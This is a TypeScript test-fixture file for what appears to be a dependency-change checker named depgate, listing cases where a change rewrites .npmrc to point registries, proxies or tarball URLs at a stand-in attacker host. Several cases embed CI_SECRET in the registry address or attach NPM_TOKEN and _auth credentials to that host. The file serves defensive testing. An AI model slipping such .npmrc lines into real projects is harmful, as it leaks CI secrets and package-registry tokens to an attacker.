// Kind 4: evidence is asked of the registries that the base names, and nothing of the job is sent elsewhere.

import { project, root, type Row } from '../row.ts'
import { append, ask, edits, relock, tamper, write, type Make } from '../state.ts'
import type { Stage } from '../stage.ts'

const base: Make = project({
  'package.json': root({ dependencies: { 'orc-foo': '1.0.0', '@orc/scoped': '1.0.0' } }),
})
const bump = edits(ask('@orc/scoped', '1.1.0'), ask('orc-foo', '1.0.1'), relock)
const toEvil = ({ evil }: Stage) => `${evil}\${CI_SECRET}/`
const host = ({ evil }: Stage) => evil.replace(/^http:/, '')
const harmless = 'depgate itself is on trial here'
const npmrc = (text: (stage: Stage) => string) => edits(bump, append('.npmrc', text))

export const witness: readonly Row[] = [
  {
    name: 'a scope whose registry has a secret in its address',
    base,
    harmless,
    attack: npmrc((stage) => `@orc:registry=${toEvil(stage)}\n`),
    twin: bump,
    judged: ['@orc/scoped@1.1.0', 'orc-foo@1.0.1'],
  },
  {
    name: 'a registry with a secret in its address',
    base: async (stage) => ({ ...(await base(stage)), '.npmrc': `registry=${stage.registry}\n` }),
    harmless,
    attack: npmrc((stage) => `registry=${toEvil(stage)}\n`),
    twin: npmrc(({ registry }) => `registry=${registry}\n`),
  },
  {
    name: 'a registry that gets the token',
    base,
    harmless,
    attack: npmrc((stage) => `registry=${stage.evil}\n${host(stage)}:_authToken=\${NPM_TOKEN}\n`),
    twin: bump,
  },
  {
    name: 'a registry that gets a secret as user and password',
    base,
    harmless,
    attack: npmrc((stage) => `registry=${stage.evil}\n${host(stage)}:_auth=\${CI_SECRET}\n`),
  },
  {
    name: 'a registry that the change names without any secret',
    base,
    harmless,
    attack: npmrc(({ evil }) => `registry=${evil}\n`),
  },
  {
    name: 'a proxy that the change names',
    base,
    harmless,
    attack: npmrc(({ evil }) => `proxy=${evil}\nhttps-proxy=${evil}\n`),
  },
  {
    name: 'a tarball from a host that the change has a token for',
    base,
    harmless,
    attack: edits(
      bump,
      tamper('node_modules/orc-foo', ({ evil }) => ({ resolved: `${evil}orc-foo/-/orc-foo-1.0.1.tgz` })),
      append('.npmrc', (stage) => `${host(stage)}:_authToken=\${NPM_TOKEN}\n`),
    ),
  },
  {
    name: "an .npmrc of a workspace's folder",
    base: project({
      'package.json': root({ workspaces: ['one'], dependencies: { 'orc-foo': '1.0.0' } }),
      'one/package.json': { name: 'own-one', version: '1.0.0', dependencies: { '@orc/scoped': '1.0.0' } },
    }),
    harmless,
    attack: edits(
      ask('orc-foo', '1.0.1'),
      relock,
      write((stage) => ({ 'one/.npmrc': `@orc:registry=${toEvil(stage)}\nregistry=${toEvil(stage)}\n` })),
    ),
    refused: 'lawful',
  },
  {
    name: 'a scope that the base names',
    base: async (stage) => ({ ...(await base(stage)), '.npmrc': `@orc:registry=${stage.registry}\n` }),
    twin: bump,
    judged: ['@orc/scoped@1.1.0'],
  },
]
